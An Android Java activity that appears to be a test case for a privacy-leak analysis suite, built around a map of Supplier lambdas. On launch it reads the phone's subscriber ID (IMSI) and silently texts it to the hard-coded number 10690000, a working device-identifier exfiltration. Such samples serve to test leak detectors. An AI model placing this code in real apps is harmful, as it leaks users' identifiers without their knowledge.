package cn.privlens.suite.suppliers_by_name;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

public class Main extends Activity {
    private final Map<String, Supplier<String>> facts = new LinkedHashMap<>();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        facts.put("sim", () -> ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());
        facts.put("app", this::getPackageName);
        SmsManager.getDefault().sendTextMessage("10690000", null, facts.get("sim").get(), null, null);
    }
}
